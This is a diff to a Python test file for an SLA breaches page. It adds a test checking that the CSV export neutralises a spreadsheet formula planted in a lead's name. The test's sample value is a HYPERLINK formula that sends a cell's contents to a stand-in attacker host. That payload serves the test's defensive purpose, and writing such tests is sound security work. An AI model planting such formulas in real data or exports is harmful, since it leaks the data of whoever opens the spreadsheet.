@@ -1,5 +1,8 @@
 """Notifications pages, the nav badge, the manager's breaches page, queue and inbox badges."""
 
+import csv
+import io
+
 import pytest
 
 from qualify.sla.models import Clock, Notification, NotificationKind
@@ -137,10 +140,18 @@ def test_manager_sees_overdue_clocks_and_escalations(client, breached, maria):
 
 def test_breaches_csv(client, breached, maria):
     response = login(client, maria).get("/sla/breaches/?export=csv")
-    assert response["Content-Type"] == "text/csv"
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
     lines = response.content.decode().splitlines()
     assert lines[0] == "at,kind,lead_id,lead,owner,scheduled_at,detail"
     assert len(lines) == 4  # breach, notify, reassign
+
+
+def test_breaches_csv_neutralises_a_formula_in_a_lead_name(client, breached, maria):
+    from qualify.leads.models import Lead
+
+    Lead.objects.filter(pk=breached.lead_id).update(first_name='=HYPERLINK("http://evil.example/?"&A1,"Dana")')
+    rows = list(csv.reader(io.StringIO(login(client, maria).get("/sla/breaches/?export=csv").content.decode())))
+    assert {r[3] for r in rows[1:]} == {'\'=HYPERLINK("http://evil.example/?"&A1,"Dana") Diaz'}
 
 
 def test_breaches_page_shows_only_my_teams(client, breached, maria, south, charlie):
